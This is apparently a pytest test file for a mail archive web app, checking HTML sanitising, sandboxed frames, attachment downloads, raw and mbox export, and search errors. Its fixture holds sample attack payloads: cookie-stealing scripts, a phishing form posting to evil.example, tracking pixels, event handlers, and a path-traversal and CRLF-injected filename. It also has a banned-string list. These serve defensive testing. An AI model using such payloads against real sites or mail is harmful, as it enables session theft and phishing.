"""Reading archived messages on the web page: a hostile HTML part made harmless, the
frame's own walls, attachments and raw messages as downloads, and the mbox export."""

from __future__ import annotations

import base64
import mailbox
from email.message import EmailMessage
from pathlib import Path

from support.web import PASSWORDS, Site, log_in, make_message

PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
)

HOSTILE_HTML = """<html><head><base href="https://evil.example/">
<script>steal(document.cookie)</script>
<style>body { background: url(https://tracker.example/css.png) }</style>
<meta http-equiv="refresh" content="0; url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css"></head>
<body onload="steal()">
<p style="color: red; background-image: url('https://tracker.example/bg.png')">Dear user,</p>
<img src="https://tracker.example/pixel.gif?u=alice" width="1" height="1">
<img src="http://tracker.example/plain.gif">
<img src="//tracker.example/relative.gif">
<img src="cid:logo@example" alt="logo">
<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">
<a href="javascript:steal()">click</a> <a href="https://example.org/ok">fine link</a>
<form action="https://evil.example/phish"><input name="password"><button>Go</button></form>
<iframe src="https://evil.example/frame"></iframe><object data="x.swf"></object>
<embed src="x.swf"><svg onload="steal()"><script>steal()</script></svg>
<div onclick="steal()" onmouseover="steal()">hover</div>
</body></html>"""


def hostile_message() -> bytes:
    message = EmailMessage()
    message["From"] = "Phisher <phish@evil.example>"
    message["To"] = "alice@example.org"
    message["Subject"] = "Your account <script>alert(1)</script>"
    message.set_content("The text part.\n<script>alert('text')</script>\n")
    message.add_alternative(HOSTILE_HTML, subtype="html")
    html_part = message.get_payload()[1]
    html_part.add_related(PIXEL, maintype="image", subtype="png", cid="<logo@example>")
    message.add_attachment(
        b"<html><script>alert(1)</script></html>",
        maintype="text",
        subtype="html",
        filename="invoice.html",
    )
    message.add_attachment(
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        maintype="image",
        subtype="svg+xml",
        filename="../../etc/évil\r\n.svg",
    )
    message.add_attachment(
        b"%PDF-1.4 report", maintype="application", subtype="pdf", filename="report.pdf"
    )
    return message.as_bytes()


async def test_hostile_html_message_is_shown_without_scripts_or_remote_urls(site: Site) -> None:
    entry_id = await site.archive_message("alice", hostile_message())
    async with site.client() as client:
        await log_in(client, "alice", PASSWORDS["alice"])
        page = await client.get(f"/message/{entry_id}")
        assert page.status_code == 200
        # Headers and text are escaped on the page itself.
        assert "<script>" not in page.text
        assert "Your account &lt;script&gt;alert(1)&lt;/script&gt;" in page.text
        assert "&lt;script&gt;alert(&#39;text&#39;)&lt;/script&gt;" in page.text
        assert "frame-src 'self'" in page.headers["content-security-policy"]
        assert "script-src" not in page.headers["content-security-policy"]
        assert f'<iframe id="html-frame" src="/message/{entry_id}/html" sandbox=""' in page.text

        frame = await client.get(f"/message/{entry_id}/html")
    assert frame.status_code == 200
    csp = frame.headers["content-security-policy"]
    for directive in (
        "default-src 'none'",
        "img-src data:",
        "style-src 'unsafe-inline'",
        "form-action 'none'",
        "frame-ancestors 'self'",
        "sandbox",
    ):
        assert directive in csp
    assert frame.headers["x-frame-options"] == "SAMEORIGIN"
    body = frame.text.lower()
    for banned in (
        "<script",
        "steal(",
        "onload",
        "onclick",
        "onmouseover",
        "<form",
        "<input",
        "<iframe",
        "<object",
        "<embed",
        "<base",
        "<meta http-equiv",
        "<link",
        "tracker.example",
        "evil.example",
        "javascript:",
        "url(",
        "<svg",
        "data:image/svg",
    ):
        assert banned not in body, banned
    assert "dear user," in body
    assert 'href="https://example.org/ok"' in body
    # The message's own cid: image is inlined as data:, what the frame's CSP allows.
    assert "data:image/png;base64," + base64.b64encode(PIXEL).decode() in frame.text
    assert "color:red" in body.replace(" ", "")


async def test_attachments_always_download_and_never_render(site: Site) -> None:
    entry_id = await site.archive_message("alice", hostile_message())
    async with site.client() as client:
        await log_in(client, "alice", PASSWORDS["alice"])
        page = await client.get(f"/message/{entry_id}")
        assert "invoice.html" in page.text
        assert "report.pdf" in page.text
        parts = [await client.get(f"/message/{entry_id}/part/{n}") for n in (1, 2, 3, 4)]
        missing = await client.get(f"/message/{entry_id}/part/9")
    logo, html, svg, pdf = parts
    assert missing.status_code == 404
    for part in parts:
        assert part.status_code == 200
        assert part.headers["content-disposition"].startswith("attachment;")
        assert part.headers["x-content-type-options"] == "nosniff"
        assert "sandbox" in part.headers["content-security-policy"]
    assert logo.headers["content-type"] == "image/png"
    assert logo.content == PIXEL
    assert html.headers["content-type"] == "application/octet-stream"
    assert html.content == b"<html><script>alert(1)</script></html>"
    assert 'filename="invoice.html"' in html.headers["content-disposition"]
    assert svg.headers["content-type"] == "application/octet-stream"
    svg_disposition = svg.headers["content-disposition"]
    assert "/" not in svg_disposition.split("filename=", 1)[1].split(";")[0]
    assert "\r" not in svg_disposition
    assert "\n" not in svg_disposition
    assert pdf.headers["content-type"] == "application/pdf"
    assert pdf.content == b"%PDF-1.4 report"


async def test_raw_download_is_the_message_as_archived(site: Site) -> None:
    message = hostile_message()
    entry_id = await site.archive_message("alice", message)
    async with site.client() as client:
        await log_in(client, "alice", PASSWORDS["alice"])
        raw = await client.get(f"/message/{entry_id}/raw")
    assert raw.status_code == 200
    assert raw.content == message
    assert raw.headers["content-type"].startswith("message/rfc822")
    assert raw.headers["content-disposition"] == f'attachment; filename="message-{entry_id}.eml"'
    assert raw.headers["x-content-type-options"] == "nosniff"


async def test_export_downloads_the_search_result_as_mbox(site: Site, tmp_path: Path) -> None:
    wanted = [
        make_message("Quarterly report", "Numbers.\nFrom here on, a body line.\n"),
        make_message("Report draft", ">From the archive\nbody\n"),
    ]
    other = make_message("Lunch on Friday", "Pizza?\n")
    for message in [*wanted, other]:
        await site.archive_message("alice", message)
    await site.archive_message("bob", make_message("Bob's report", "Not for alice.\n"))
    async with site.client() as client:
        await log_in(client, "alice", PASSWORDS["alice"])
        response = await client.get("/export", params={"q": "subject:report"})
        everything = await client.get("/export")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/mbox")
    assert response.headers["content-disposition"].startswith("attachment;")
    path = tmp_path / "export.mbox"
    path.write_bytes(response.content)
    box = mailbox.mbox(path)
    try:
        subjects = sorted(str(message["subject"]) for message in box)
        bodies = {str(message["subject"]): message.get_payload() for message in box}
    finally:
        box.close()
    assert subjects == ["Quarterly report", "Report draft"]
    # mboxrd: every ">*From " body line got one more ">", and reading takes it off.
    assert ">From here on" in bodies["Quarterly report"]
    assert ">>From the archive" in bodies["Report draft"]
    path.write_bytes(everything.content)
    box = mailbox.mbox(path)
    try:
        assert len(box) == 3
    finally:
        box.close()


async def test_an_unreadable_search_says_why_and_export_refuses_it(site: Site) -> None:
    async with site.client() as client:
        await log_in(client, "alice", PASSWORDS["alice"])
        page = await client.get("/search", params={"q": 'subject:"unclosed'})
        assert page.status_code == 400
        assert 'id="error"' in page.text
        assert "cannot be read" in page.text
        assert (await client.get("/export", params={"q": "(("})).status_code == 400
        long_query = await client.get("/search", params={"q": "a" * 5000})
        assert long_query.status_code == 400
